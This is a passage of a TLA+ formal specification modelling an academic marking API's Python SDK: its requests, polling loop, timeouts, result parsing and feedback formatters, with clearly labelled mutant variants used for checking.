---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the Academic Workflow API Python SDK (awap_sdk.AwapClient):    *)
(* upload_tma, submit_for_marking, get_job_status, get_results,            *)
(* wait_for_completion and mark_tma, as a single-threaded blocking client  *)
(* talking to a remote service whose answers are nondeterministic.         *)
(*                                                                         *)
(* Time is wall-clock seconds.  A request blocks for a duration chosen by  *)
(* the environment; time.sleep blocks for exactly its argument; all other  *)
(* statements take no time.                                                *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    pc,            \* position of the client: idle, upload, submit, status, fetch,
                   \* wfc_check, wfc_poll, wfc_sleep, done
    op,            \* the operation the caller invoked
    file,          \* what file_path names on the local disk
    student_id,    \* argument student_id
    wait,          \* argument wait of mark_tma
    poll_interval, \* argument poll_interval of wait_for_completion
    timeout_arg,   \* argument timeout of wait_for_completion: <<>> is None
    self_timeout,  \* self.timeout, set by the constructor
    clock,         \* time.time(), seconds since the invocation
    start_time,    \* local start_time of wait_for_completion
    timeout,       \* local timeout of wait_for_completion after line 266
    tma_id,        \* local/argument tma_id
    job_id,        \* local/argument job_id
    status_data,   \* the JSON object of the most recent status response
    status,        \* local status of wait_for_completion
    net,           \* the requests issued by session.request during this call
    iters,         \* loop iterations of wait_for_completion that passed the check
    slept,         \* seconds spent in time.sleep during this call
    outcome,       \* none, returned, or the class of the exception raised
    err,           \* message and status_code of the exception raised
    retval,        \* the string returned (a handle or a status)
    result,        \* <<>> or <<r>>, r the MarkingResult returned
    reply,         \* <<>> or <<resp>>, resp what the most recent request of this
                   \* call came back with
    last_fetch,    \* <<>> or the previous call when that was a successful
                   \* get_results: its tma_id, response body, result and client
    plugin,        \* the FeedbackFormatterPlugin object and its last call
    quick,         \* the run of the quickstart script mark_single_tma.py
    example,       \* the run of the SDK example script examples/mark_tma.py
    locust,        \* one simulated user running the load test's TMAWorkflow
    secrep,        \* the SecurityReportGenerator object and the run of its script
    bench,         \* the BenchmarkReportGenerator object and the run of its script
    fuzz           \* the APIFuzzer object and the run of fuzz_api.py

vars == <<pc, op, file, student_id, wait, poll_interval, timeout_arg, self_timeout,
          clock, start_time, timeout, tma_id, job_id, status_data, status, net,
          iters, slept, outcome, err, retval, result, reply, last_fetch,
          plugin, quick, example, locust, secrep, bench, fuzz>>

(***************************************************************************)
(* Bounds and program constants                                            *)
(***************************************************************************)
\* wait_for_completion is followed for at most this many loop iterations
MaxPolls == 4
\* the load test's task sequence is followed for at most this many rounds
MaxRounds == 3
\* a report directory holds at most this many files matching one loader
MaxFiles == 2
\* a report generator is followed until it has loaded this many test results
MaxTests == 3
\* the fuzzed service gives rise to at most this many findings in one run
MaxFindings == 2
\* the coverage-guided mode is followed for this many inputs
MaxInputs == 3

\* session.request(..., timeout=30)
TransportTimeout == 30
\* AwapClient.__init__(timeout=300)
DefaultTimeout == 300
\* wait_for_completion(poll_interval=5)
DefaultPollInterval == 5

\* quickstart: TIMEOUT = 300  # seconds
TIMEOUT == 300
\* quickstart: time.sleep(5); elapsed += 5
QuickSleep == 5

\* Python's None where a string is expected
None == "<None>"
\* Python's None where an int is expected is the empty tuple, n is <<n>>
NoInt == <<>>

\* how long one request can block: at once, a second, the transport timeout
ReqDurations == {0, 1, TransportTimeout}
\* the values of self.timeout the constructor is given
ClientTimeouts == {DefaultTimeout, 6}
\* the poll_interval arguments
PollIntervals == {1, DefaultPollInterval}
\* the timeout arguments
TimeoutArgs == {NoInt, <<0>>, <<1>>, <<2>>}
\* what file_path can name
FileKinds == {"missing", "regular", "directory"}
StudentIds == {"student001", "student002"}
\* handles the service can hand out, and the caller can pass
Handles == {"t1", "x9"}
\* job statuses the service can report (the SDK names only completed and failed)
Statuses == {"pending", "running", "completed", "failed", "timeout", None}
\* the error texts a failed job can carry
ErrorTexts == {"disk full", "bad pdf"}

(***************************************************************************)
(* Python values                                                           *)
(***************************************************************************)
\* mutant: only None counts as missing, the empty string passes
Truthy_not_none(s) == s # None

\* truthiness of a str-or-None
Truthy(s) == s # None /\ s # ""

\* dict.get(key, default)
Get(d, key, default) == IF key \in DOMAIN d THEN d[key] ELSE default

NoErr == [class |-> "none", message |-> <<>>, status_code |-> NoInt]
NoData == [absent |-> TRUE]

(***************************************************************************)
(* The remote service: what one request can come back with                 *)
(***************************************************************************)
\* exc: session.request raised a RequestException that is no HTTPError
\* (connection refused, transport timeout); code: the HTTP status code;
\* json: the body parses as JSON; body: the parsed JSON object; dur: seconds
\* the call blocked
Failing(d) == [exc |-> TRUE, code |-> 0, json |-> FALSE, body |-> NoData, dur |-> d]
HttpError(c, d) == [exc |-> FALSE, code |-> c, json |-> FALSE, body |-> NoData, dur |-> d]
NotJson(d) == [exc |-> FALSE, code |-> 200, json |-> FALSE, body |-> NoData, dur |-> d]
Ok(b, d) == [exc |-> FALSE, code |-> 200, json |-> TRUE, body |-> b, dur |-> d]

ErrorCodes == {404, 500}

Unanswered ==
    {Failing(d) : d \in ReqDurations}
    \cup {HttpError(c, d) : c \in ErrorCodes, d \in ReqDurations}
    \cup {NotJson(d) : d \in ReqDurations}

\* a JSON object without any of the keys the client reads
OtherObject == [message |-> "ok"]

UploadBodies == {[tma_id |-> h] : h \in Handles \cup {""}} \cup {OtherObject}
SubmitBodies == {[job_id |-> h] : h \in {"j1", "t1", ""}} \cup {OtherObject}
StatusBodies ==
    {[status |-> s] : s \in Statuses}
    \cup {[status |-> "failed", error |-> e] : e \in ErrorTexts}
    \cup {OtherObject}

FullFeedback ==
    [summary |-> "Good work", strengths |-> <<"clear">>,
     areas_for_improvement |-> <<"depth">>, detailed_comments |-> <<"c1", "c2">>]
FullResult(t) ==
    [tma_id |-> t, student_id |-> "student001", score |-> 85, grade |-> "B+",
     feedback |-> FullFeedback, marked_at |-> "2024-01-01T00:00:00Z"]
ResultBodies ==
    {FullResult(t) : t \in Handles}
    \cup {[tma_id |-> "t1", student_id |-> "student001", score |-> 40, grade |-> "F",
           marked_at |-> "2024-01-02T00:00:00Z"],
          [tma_id |-> "t1", student_id |-> "student001", score |-> 70, grade |-> "B",
           feedback |-> [summary |-> "Fine"], marked_at |-> "2024-01-03T00:00:00Z"],
          [tma_id |-> "t1", student_id |-> "student001", grade |-> "B",
           feedback |-> FullFeedback, marked_at |-> "2024-01-03T00:00:00Z"],
          OtherObject}

Responses(bodies) == Unanswered \cup {Ok(b, d) : b \in bodies, d \in ReqDurations}

(***************************************************************************)
(* AwapClient._request                                                     *)
(***************************************************************************)
\* response.raise_for_status() raises HTTPError for a 4xx or 5xx status
RaiseForStatus(resp) == resp.code >= 400 /\ resp.code < 600

\* _request raises instead of returning the response
RequestRaises(resp) == resp.exc \/ RaiseForStatus(resp)

\* bool(response) is response.ok: False for a 4xx or 5xx status
ResponseBool(resp) == ~RaiseForStatus(resp)

\* mutant: a transport failure is reported as the polling timeout
RequestError_as_timeout(resp) ==
    IF resp.exc
    THEN [class |-> "AwapTimeoutError", message |-> <<"Request failed: ", "RequestException">>,
          status_code |-> NoInt]
    ELSE [class |-> "AwapAPIError", message |-> <<"API request failed: ", "HTTPError">>,
          status_code |-> IF ResponseBool(resp) THEN <<resp.code>> ELSE NoInt]

\* the AwapAPIError _request raises
RequestError(resp) ==
    IF resp.exc
    THEN [class |-> "AwapAPIError", message |-> <<"Request failed: ", "RequestException">>,
          status_code |-> NoInt]
    ELSE [class |-> "AwapAPIError", message |-> <<"API request failed: ", "HTTPError">>,
          status_code |-> IF ResponseBool(resp) THEN <<resp.code>> ELSE NoInt]

\* mutant: the request is sent a second time
Issue_twice(log, kind, id, failed) ==
    Append(Append(log, [kind |-> kind, id |-> id, failed |-> failed]),
           [kind |-> kind, id |-> id, failed |-> failed])

\* session.request(method, url, ...): one request on the wire; failed records
\* that _request raised for it
Issue(log, kind, id, failed) == Append(log, [kind |-> kind, id |-> id, failed |-> failed])

(***************************************************************************)
(* The exception classes                                                   *)
(***************************************************************************)
\* class AwapError(Exception), AwapAPIError(AwapError), AwapTimeoutError(AwapError)
ExceptionBase ==
    [AwapError |-> "Exception", AwapAPIError |-> "AwapError",
     AwapTimeoutError |-> "AwapError"]

\* issubclass(c, d) for the classes above
IsSubclass(c, d) ==
    \/ c = d
    \/ /\ c \in DOMAIN ExceptionBase
       /\ \/ ExceptionBase[c] = d
          \/ /\ ExceptionBase[c] \in DOMAIN ExceptionBase
             /\ ExceptionBase[ExceptionBase[c]] = d

(***************************************************************************)
(* Leaving the invoked operation, or going on inside it                    *)
(***************************************************************************)
ApiError(msg) == [class |-> "AwapAPIError", message |-> msg, status_code |-> NoInt]
Exc(class, msg) == [class |-> class, message |-> msg, status_code |-> NoInt]

\* raise e: the exception propagates to the caller (no handler in the SDK)
Raise(e) ==
    /\ outcome' = e.class
    /\ err' = e
    /\ pc' = "done"
    /\ UNCHANGED <<retval, result>>

\* return a handle or a status
ReturnStr(v) ==
    /\ outcome' = "returned"
    /\ retval' = v
    /\ pc' = "done"
    /\ UNCHANGED <<err, result>>

\* return a MarkingResult
ReturnResult(r) ==
    /\ outcome' = "returned"
    /\ result' = <<r>>
    /\ pc' = "done"
    /\ UNCHANGED <<err, retval>>

\* return the parsed JSON object (get_job_status), kept in status_data
ReturnData ==
    /\ outcome' = "returned"
    /\ pc' = "done"
    /\ UNCHANGED <<err, retval, result>>

Goto(p) ==
    /\ pc' = p
    /\ UNCHANGED <<outcome, err, retval, result>>

\* the request goes out and the call blocks until it is answered or fails
Exchange(kind, id, resp) ==
    /\ net' = Issue(net, kind, id, RequestRaises(resp))
    /\ clock' = clock + resp.dur
    /\ reply' = <<[exc |-> resp.exc, code |-> resp.code, json |-> resp.json,
                   body |-> resp.body]>>

argvars == <<op, file, student_id, wait, poll_interval, timeout_arg, self_timeout>>

\* the variables of the AwapClient and its running call
clientvars ==
    <<pc, argvars, clock, start_time, timeout, tma_id, job_id, status_data, status, net,
      iters, slept, outcome, err, retval, result, reply, last_fetch>>

\* the variables of the other programs, which a step of the client leaves alone
aside == <<plugin, quick, example, locust, secrep, bench, fuzz>>

\* no FeedbackFormatterPlugin object exists
NoPlugin ==
    [pc |-> "none", config |-> <<>>, format_type |-> "", results |-> <<>>,
     after |-> <<>>, exc |-> "none", out |-> <<>>]

(***************************************************************************)
(* The caller invokes an operation of the client                           *)
(***************************************************************************)
\* no call of the client is running and no other program is
Idle ==
    /\ pc = "idle" /\ plugin.pc = "none" /\ quick.pc = "none" /\ example.pc = "none"
    /\ locust.pc = "none" /\ secrep.pc = "none" /\ bench.pc = "none" /\ fuzz.pc = "none"

\* the other programs are processes of their own, sharing nothing with the
\* client: they are followed next to a default client that has made no call
Quiet == Idle /\ last_fetch = <<>> /\ self_timeout = DefaultTimeout

\* the locals of a fresh invocation; the clock counts from the invocation
Locals ==
    /\ clock' = 0
    /\ start_time' = 0
    /\ timeout' = 0
    /\ status_data' = NoData
    /\ status' = None
    /\ net' = <<>>
    /\ iters' = 0
    /\ slept' = 0
    /\ outcome' = "none"
    /\ err' = NoErr
    /\ retval' = None
    /\ result' = <<>>
    /\ reply' = <<>>

Fresh == Locals /\ UNCHANGED aside

InvokeUploadTma ==
    /\ Idle /\ Fresh
    /\ op' = "upload_tma" /\ pc' = "upload"
    /\ file' \in FileKinds
    /\ student_id' \in StudentIds
    /\ tma_id' = None /\ job_id' = None
    /\ UNCHANGED <<wait, poll_interval, timeout_arg, self_timeout>>
    /\ last_fetch' = <<>>

InvokeSubmitForMarking ==
    /\ Idle /\ Fresh
    /\ op' = "submit_for_marking" /\ pc' = "submit"
    /\ tma_id' \in Handles
    /\ job_id' = None
    /\ UNCHANGED <<file, student_id, wait, poll_interval, timeout_arg, self_timeout>>
    /\ last_fetch' = <<>>

InvokeGetJobStatus ==
    /\ Idle /\ Fresh
    /\ op' = "get_job_status" /\ pc' = "status"
    /\ job_id' \in {"j1", "t1"}
    /\ tma_id' = None
    /\ UNCHANGED <<file, student_id, wait, poll_interval, timeout_arg, self_timeout>>
    /\ last_fetch' = <<>>

InvokeGetResults ==
    /\ Idle /\ Fresh
    /\ op' = "get_results" /\ pc' = "fetch"
    /\ tma_id' \in Handles
    /\ job_id' = None
    /\ UNCHANGED <<file, student_id, wait, poll_interval, timeout_arg, self_timeout>>
    /\ UNCHANGED last_fetch

InvokeWaitForCompletion ==
    /\ Idle /\ Fresh
    /\ op' = "wait_for_completion" /\ pc' = "wfc_enter"
    /\ job_id' \in {"j1", "t1"}
    /\ poll_interval' \in PollIntervals
    /\ timeout_arg' \in TimeoutArgs
    /\ tma_id' = None
    /\ UNCHANGED <<file, student_id, wait, self_timeout>>
    /\ last_fetch' = <<>>

\* mark_tma calls wait_for_completion(job_id): poll_interval and timeout default
InvokeMarkTma ==
    /\ Idle /\ Fresh
    /\ op' = "mark_tma" /\ pc' = "upload"
    /\ file' \in FileKinds
    /\ student_id' \in StudentIds
    /\ wait' \in BOOLEAN
    /\ poll_interval' = DefaultPollInterval
    /\ timeout_arg' = NoInt
    /\ tma_id' = None /\ job_id' = None
    /\ UNCHANGED self_timeout
    /\ last_fetch' = <<>>

\* the operation has returned or raised: control is back with the caller, who
\* may invoke the next operation on the same client
Returned ==
    /\ pc' = "idle" /\ op' = "none"
    /\ file' = "regular" /\ student_id' = "student001" /\ wait' = TRUE
    /\ poll_interval' = DefaultPollInterval /\ timeout_arg' = NoInt
    /\ tma_id' = None /\ job_id' = None
    /\ last_fetch' = IF op = "get_results" /\ outcome = "returned"
                     THEN <<[tma_id |-> tma_id, body |-> reply[1].body,
                             result |-> result[1], client |-> self_timeout]>>
                     ELSE <<>>
    /\ UNCHANGED self_timeout

\* the caller is some program other than the example script
ReturnToCaller ==
    /\ pc = "done" /\ example.pc = "none"
    /\ Fresh
    /\ Returned

(***************************************************************************)
(* upload_tma                                                              *)
(***************************************************************************)
\* os.path.exists(file_path)
PathExists(f) == f # "missing"

\* open(file_path, 'rb') succeeds
Openable(f) == f = "regular"

\* lines 172-178, and what the caller of upload_tma does with the handle
UploadAnswered(resp) ==
    IF RequestRaises(resp)
    THEN Raise(RequestError(resp)) /\ UNCHANGED tma_id
    ELSE IF ~resp.json
    THEN Raise(Exc("JSONDecodeError", <<"response.json()">>)) /\ UNCHANGED tma_id
    ELSE LET t == Get(resp.body, "tma_id", None) IN
         IF ~Truthy(t)
         THEN Raise(ApiError(<<"No TMA ID returned from upload">>)) /\ UNCHANGED tma_id
         ELSE /\ tma_id' = t
              /\ IF op = "upload_tma" THEN ReturnStr(t) ELSE Goto("submit")

\* mutant: the existence test is missing and the request goes out regardless
UploadTma_unchecked ==
    /\ pc = "upload"
    /\ \E resp \in Responses(UploadBodies) :
           /\ Exchange("upload", "", resp)
           /\ UploadAnswered(resp)
    /\ UNCHANGED <<argvars, last_fetch, aside, start_time, timeout, job_id, status_data, status, iters, slept>>

UploadTma ==
    /\ pc = "upload"
    /\ IF ~PathExists(file)
       THEN /\ Raise(Exc("FileNotFoundError", <<"TMA file not found: ", "file_path">>))
            /\ UNCHANGED <<net, clock, tma_id, reply>>
       ELSE IF ~Openable(file)
       THEN /\ Raise(Exc("IsADirectoryError", <<"open(file_path, 'rb')">>))
            /\ UNCHANGED <<net, clock, tma_id, reply>>
       ELSE \E resp \in Responses(UploadBodies) :
                /\ Exchange("upload", "", resp)
                /\ UploadAnswered(resp)
    /\ UNCHANGED <<argvars, last_fetch, aside, start_time, timeout, job_id, status_data, status, iters, slept>>

(***************************************************************************)
(* submit_for_marking, and mark_tma's choice after it                      *)
(***************************************************************************)
\* the partial result mark_tma returns when wait is false (lines 315-322)
PartialResult(t, sid) ==
    [tma_id |-> t, student_id |-> sid, score |-> 0, grade |-> "",
     feedback |-> [summary |-> "", strengths |-> <<>>,
                   areas_for_improvement |-> <<>>, detailed_comments |-> <<>>],
     marked_at |-> ""]

\* mutant: the test of wait is inverted
SkipsWaiting_inverted(w) == w

\* mark_tma line 313: if not wait, return now; else wait and fetch
SkipsWaiting(w) == ~w

\* mutant: a placeholder stands in for an absent job_id
JobIdOf_placeholder(body) == Get(body, "job_id", "unknown")

\* line 209: job_id = result.get('job_id')
JobIdOf(body) == Get(body, "job_id", None)

\* lines 208-214, and what the caller of submit_for_marking does with the id
SubmitAnswered(resp) ==
    IF RequestRaises(resp)
    THEN Raise(RequestError(resp)) /\ UNCHANGED job_id
    ELSE IF ~resp.json
    THEN Raise(Exc("JSONDecodeError", <<"response.json()">>)) /\ UNCHANGED job_id
    ELSE LET j == JobIdOf(resp.body) IN
         IF ~Truthy(j)
         THEN Raise(ApiError(<<"No job ID returned">>)) /\ UNCHANGED job_id
         ELSE /\ job_id' = j
              /\ IF op = "submit_for_marking" THEN ReturnStr(j)
                 ELSE IF SkipsWaiting(wait)
                 THEN ReturnResult(PartialResult(tma_id, student_id))
                 ELSE Goto("wfc_enter")

SubmitForMarking ==
    /\ pc = "submit"
    /\ \E resp \in Responses(SubmitBodies) :
           /\ Exchange("submit", tma_id, resp)
           /\ SubmitAnswered(resp)
    /\ UNCHANGED <<argvars, last_fetch, aside, start_time, timeout, tma_id, status_data, status, iters, slept>>

(***************************************************************************)
(* get_job_status called by the caller                                     *)
(***************************************************************************)
GetJobStatus ==
    /\ pc = "status"
    /\ \E resp \in Responses(StatusBodies) :
           /\ Exchange("poll", job_id, resp)
           /\ IF RequestRaises(resp)
              THEN Raise(RequestError(resp)) /\ UNCHANGED status_data
              ELSE IF ~resp.json
              THEN Raise(Exc("JSONDecodeError", <<"response.json()">>))
                   /\ UNCHANGED status_data
              ELSE status_data' = resp.body /\ ReturnData
    /\ UNCHANGED <<argvars, last_fetch, aside, start_time, timeout, tma_id, job_id, status, iters, slept>>

(***************************************************************************)
(* get_results and MarkingResult.from_dict                                 *)
(***************************************************************************)
RequiredKeys == {"tma_id", "student_id", "score", "grade", "marked_at"}

\* data[k] raises KeyError for an absent key
FromDictRaises(data) == \E k \in RequiredKeys : k \notin DOMAIN data

EmptyDict == [none |-> TRUE]

\* mutant: a repeated retrieval stamps marked_at instead of copying it
FromDict_stamped(data) ==
    LET feedback_data == Get(data, "feedback", EmptyDict) IN
    [tma_id |-> data.tma_id, student_id |-> data.student_id, score |-> data.score,
     grade |-> data.grade,
     feedback |-> [summary |-> Get(feedback_data, "summary", ""),
                   strengths |-> Get(feedback_data, "strengths", <<>>),
                   areas_for_improvement |->
                       Get(feedback_data, "areas_for_improvement", <<>>),
                   detailed_comments |-> Get(feedback_data, "detailed_comments", <<>>)],
     marked_at |-> IF last_fetch = <<>> THEN data.marked_at ELSE "retrieved again"]

\* mutant: strengths is filled from areas_for_improvement
FromDict_strengths_copied(data) ==
    LET feedback_data == Get(data, "feedback", EmptyDict) IN
    [tma_id |-> data.tma_id, student_id |-> data.student_id, score |-> data.score,
     grade |-> data.grade,
     feedback |-> [summary |-> Get(feedback_data, "summary", ""),
                   strengths |-> Get(feedback_data, "areas_for_improvement", <<>>),
                   areas_for_improvement |->
                       Get(feedback_data, "areas_for_improvement", <<>>),
                   detailed_comments |-> Get(feedback_data, "detailed_comments", <<>>)],
     marked_at |-> data.marked_at]

\* MarkingResult.from_dict
FromDict(data) ==
    LET feedback_data == Get(data, "feedback", EmptyDict) IN
    [tma_id |-> data.tma_id, student_id |-> data.student_id, score |-> data.score,
     grade |-> data.grade,
     feedback |-> [summary |-> Get(feedback_data, "summary", ""),
                   strengths |-> Get(feedback_data, "strengths", <<>>),
                   areas_for_improvement |->
                       Get(feedback_data, "areas_for_improvement", <<>>),
                   detailed_comments |-> Get(feedback_data, "detailed_comments", <<>>)],
     marked_at |-> data.marked_at]

GetResults ==
    /\ pc = "fetch"
    /\ \E resp \in Responses(ResultBodies) :
           /\ Exchange("fetch", tma_id, resp)
           /\ IF RequestRaises(resp)
              THEN Raise(RequestError(resp))
              ELSE IF ~resp.json
              THEN Raise(Exc("JSONDecodeError", <<"response.json()">>))
              ELSE IF FromDictRaises(resp.body)
              THEN Raise(Exc("KeyError", <<"data[key]">>))
              ELSE ReturnResult(FromDict(resp.body))
    /\ UNCHANGED <<argvars, last_fetch, aside, start_time, timeout, tma_id, job_id, status_data, status,
                   iters, slept>>

(***************************************************************************)
(* wait_for_completion                                                     *)
(***************************************************************************)
\* line 266: timeout = timeout or self.timeout (None and 0 are falsy)
EffectiveTimeout(targ, selfto) ==
    IF targ = NoInt \/ targ = <<0>> THEN selfto ELSE targ[1]

\* line 271: if elapsed > timeout
DeadlineExceeded(elapsed, tout) == elapsed > tout

\* mutant: the loop sleeps two intervals between polls
SleepSeconds_twice(interval, elapsed, tout) == 2 * interval

\* mutant: 'completed' is not recognised and the loop goes on
PollVerdict_completed_goes_on(st) ==
    IF st = "failed" THEN "raise" ELSE "sleep"

\* mutant: 'failed' ends the loop like 'completed'
PollVerdict_failed_returns(st) ==
    IF st \in {"completed", "failed"} THEN "return" ELSE "sleep"

\* lines 277-281: what the loop does with the status it polled
PollVerdict(st) ==
    IF st = "completed" THEN "return"
    ELSE IF st = "failed" THEN "raise"
    ELSE "sleep"

\* mutant: the error text of the response is dropped
JobFailedMessage_generic(data) == <<"Job failed: ", "Unknown error">>

\* lines 280-281: f"Job failed: {error}"
JobFailedMessage(data) == <<"Job failed: ", Get(data, "error", "Unknown error")>>

\* line 283: time.sleep(poll_interval)
SleepSeconds(interval, elapsed, tout) == interval

\* lines 266-267
WfcEnter ==
    /\ pc = "wfc_enter"
    /\ timeout' = EffectiveTimeout(timeout_arg, self_timeout)
    /\ start_time' = clock
    /\ Goto("wfc_check")
    /\ UNCHANGED <<argvars, last_fetch, aside, clock, tma_id, job_id, status_data, status, net,
                   reply, iters, slept>>

\* lines 269-272: the top of the loop
WfcCheck ==
    /\ pc = "wfc_check"
    /\ LET elapsed == clock - start_time IN
       IF DeadlineExceeded(elapsed, timeout)
       THEN /\ Raise(Exc("AwapTimeoutError", <<"Job did not complete within ", "timeout">>))
            /\ UNCHANGED iters
       ELSE /\ iters < MaxPolls
            /\ iters' = iters + 1
            /\ Goto("wfc_poll")
    /\ UNCHANGED <<argvars, last_fetch, aside, clock, start_time, timeout, tma_id, job_id,
                   status_data, status, net, reply, slept>>

\* mutant: a failed status request is swallowed and polled again
PollRequestFailed_retry(resp) ==
    /\ Goto("wfc_sleep")
    /\ UNCHANGED <<status_data, status>>

\* the status request raised inside _request: nothing catches it
PollRequestFailed(resp) ==
    /\ Raise(RequestError(resp))
    /\ UNCHANGED <<status_data, status>>

\* lines 274-281
PollAnswered(resp) ==
    IF RequestRaises(resp)
    THEN PollRequestFailed(resp)
    ELSE IF ~resp.json
    THEN Raise(Exc("JSONDecodeError", <<"response.json()">>))
         /\ UNCHANGED <<status_data, status>>
    ELSE LET st == Get(resp.body, "status", None) IN
         /\ status_data' = resp.body
         /\ status' = st
         /\ IF PollVerdict(st) = "return"
            THEN IF op = "wait_for_completion" THEN ReturnStr(st) ELSE Goto("fetch")
            ELSE IF PollVerdict(st) = "raise"
            THEN Raise(ApiError(JobFailedMessage(resp.body)))
            ELSE Goto("wfc_sleep")

WfcPoll ==
    /\ pc = "wfc_poll"
    /\ \E resp \in Responses(StatusBodies) :
           /\ Exchange("poll", job_id, resp)
           /\ PollAnswered(resp)
    /\ UNCHANGED <<argvars, last_fetch, aside, start_time, timeout, tma_id, job_id, iters, slept>>

WfcSleep ==
    /\ pc = "wfc_sleep"
    /\ clock' = clock + SleepSeconds(poll_interval, clock - start_time, timeout)
    /\ slept' = slept + SleepSeconds(poll_interval, clock - start_time, timeout)
    /\ Goto("wfc_check")
    /\ UNCHANGED <<argvars, last_fetch, aside, start_time, timeout, tma_id, job_id, status_data,
                   status, net, reply, iters>>

(***************************************************************************)
(* FeedbackFormatterPlugin (examples/plugins/custom-feedback-formatter)    *)
(*                                                                         *)
(* A text is the sequence of the pieces it is concatenated from.           *)
(***************************************************************************)
\* the config argument of the constructor: <<>> is None, <<d>> the dict d
PluginConfigs ==
    {<<>>, <<[other |-> "x"]>>}
    \cup {<<[format |-> f]>> :
            f \in {"markdown", "html", "latex", "plain", "json", "xml", "HTML", None}}

\* the result records handed to format_feedback
SampleFeedback ==
    [summary |-> "Good work", strengths |-> <<"clear", "say \"hi\"">>,
     areas_for_improvement |-> <<"a\\b">>]
SampleResults ==
    [tma_id |-> "t1", student_id |-> "student001", score |-> 85, grade |-> "B+",
     marked_at |-> "2024", feedback |-> SampleFeedback]
FormatterInputs ==
    {SampleResults,
     [SampleResults EXCEPT !.score = 0, !.grade = "",
                           !.feedback = [summary |-> "", strengths |-> <<>>,
                                         areas_for_improvement |-> <<>>]],
     [SampleResults EXCEPT !.score = 7, !.student_id = "x9",
                           !.feedback = [summary |-> "a\nb", strengths |-> <<"">>,
                                         areas_for_improvement |-> <<"clear", "x9">>]],
     [tma_id |-> "t1", score |-> 85, grade |-> "B+", marked_at |-> "2024",
      feedback |-> SampleFeedback],
     [tma_id |-> "t1", student_id |-> "student001", score |-> 85, grade |-> "B+",
      marked_at |-> "2024"],
     [tma_id |-> "t1", student_id |-> "student001", score |-> 85, grade |-> "B+",
      marked_at |-> "2024", feedback |-> [summary |-> "Good work"]]}

\* lines 15-16: self.config = config or {}; self.config.get('format', 'markdown')
FormatTypeOf(config) ==
    IF config = <<>> THEN "markdown" ELSE Get(config[1], "format", "markdown")

\* the keys of the formatters dict (lines 21-27)
FormatterNames == {"markdown", "html", "latex", "plain", "json"}

\* mutant: an unknown format falls back to plain text
FormatterFor_plain_default(format_type) ==
    IF format_type \in FormatterNames THEN format_type ELSE "plain"

\* line 29: formatters.get(self.format_type, self._format_markdown)
FormatterFor(format_type) ==
    IF format_type \in FormatterNames THEN format_type ELSE "markdown"

\* results[k] / results['feedback'][k] raises KeyError in the four text formatters
TextKeys == {"student_id", "marked_at", "score", "grade", "feedback"}
FeedbackKeys == {"summary", "strengths", "areas_for_improvement"}
TextRaises(results) ==
    \/ \E k \in TextKeys : k \notin DOMAIN results
    \/ \E k \in FeedbackKeys : k \notin DOMAIN results.feedback

RECURSIVE Bullets(_, _, _)
\* for item in items: output += prefix + item + suffix
Bullets(items, prefix, suffix) ==
    IF items = <<>> THEN <<>>
    ELSE <<prefix, Head(items), suffix>> \o Bullets(Tail(items), prefix, suffix)

RECURSIVE Numbered(_, _)
\* for i, item in enumerate(items, i): output += f"{i}. {item}\n"
Numbered(items, i) ==
    IF items = <<>> THEN <<>>
    ELSE <<ToString(i), ". ", Head(items), "\n">> \o Numbered(Tail(items), i + 1)

\* _format_markdown, lines 34-51
FormatMarkdown(results) ==
    <<"# Assignment Feedback\n\n",
      "**Student ID:** ", results.student_id, "\n",
      "**Date:** ", results.marked_at, "\n\n",
      "## Grade\n\n",
      "**Score:** ", ToString(results.score), "/100\n",
      "**Grade:** ", results.grade, "\n\n",
      "## Summary\n\n", results.feedback.summary, "\n\n",
      "## Strengths\n\n">>
    \o Bullets(results.feedback.strengths, "- ", "\n")
    \o <<"\n## Areas for Improvement\n\n">>
    \o Bullets(results.feedback.areas_for_improvement, "- ", "\n")

\* _format_html, lines 55-108
FormatHtml(results) ==
    <<"\n<!DOCTYPE html>\n<html>\n<head>...</head>\n<body>\n    <h1>Assignment Feedback</h1>\n",
      "    <p><strong>Student ID:</strong> ", results.student_id, "</p>\n",
      "    <p><strong>Date:</strong> ", results.marked_at, "</p>\n\n",
      "    <div class=\"section\">\n        <h2>Grade</h2>\n        <p class=\"grade\">",
      results.grade, " (", ToString(results.score), "/100)</p>\n    </div>\n\n",
      "    <div class=\"section\">\n        <h2>Summary</h2>\n        <p>",
      results.feedback.summary, "</p>\n    </div>\n\n",
      "    <div class=\"section\">\n        <h2>Strengths</h2>\n        <ul>\n">>
    \o Bullets(results.feedback.strengths, "            <li>", "</li>\n")
    \o <<"        </ul>\n    </div>\n\n    <div class=\"section\">\n        <h2>Areas for Improvement</h2>\n        <ul>\n">>
    \o Bullets(results.feedback.areas_for_improvement, "            <li>", "</li>\n")
    \o <<"        </ul>\n    </div>\n</body>\n</html>\n">>

\* _format_latex, lines 112-155
FormatLatex(results) ==
    <<"\\documentclass{article}\n...\n\\title{Assignment Feedback}\n\\author{Academic Workflow Suite}\n\\date{",
      results.marked_at,
      "}\n\n\\begin{document}\n\n\\maketitle\n\n\\section*{Student Information}\n\\textbf{Student ID:} ",
      results.student_id,
      "\n\n\\section*{Grade}\n\\textbf{Score:} ", ToString(results.score),
      "/100 \\\\\n\\textbf{Grade:} ", results.grade,
      "\n\n\\section*{Summary}\n", results.feedback.summary,
      "\n\n\\section*{Strengths}\n\\begin{itemize}\n">>
    \o Bullets(results.feedback.strengths, "    \\item ", "\n")
    \o <<"\\end{itemize}\n\n\\section*{Areas for Improvement}\n\\begin{itemize}\n">>
    \o Bullets(results.feedback.areas_for_improvement, "    \\item ", "\n")
    \o <<"\\end{itemize}\n\n\\end{document}\n">>

\* _format_plain, lines 159-175
FormatPlain(results) ==
    <<"ASSIGNMENT FEEDBACK\n", "==================================================", "\n\n",
      "Student ID: ", results.student_id, "\n",
      "Date: ", results.marked_at, "\n\n",
      "GRADE: ", results.grade, " (", ToString(results.score), "/100)\n\n",
      "SUMMARY\n", "--------------------------------------------------", "\n",
      results.feedback.summary, "\n\n",
      "STRENGTHS\n", "--------------------------------------------------", "\n">>
    \o Numbered(results.feedback.strengths, 1)
    \o <<"\nAREAS FOR IMPROVEMENT\n", "--------------------------------------------------", "\n">>
    \o Numbered(results.feedback.areas_for_improvement, 1)

(***************************************************************************)
(* _format_json: json.dumps(results, indent=2), character by character,    *)
(* and json.loads, which reads such a text back                            *)
(***************************************************************************)
\* the characters of the strings that occur in result records
Chars ==
    ("t1" :> <<"t", "1">>)
    @@ ("student001" :> <<"s", "t", "u", "d", "e", "n", "t", "0", "0", "1">>)
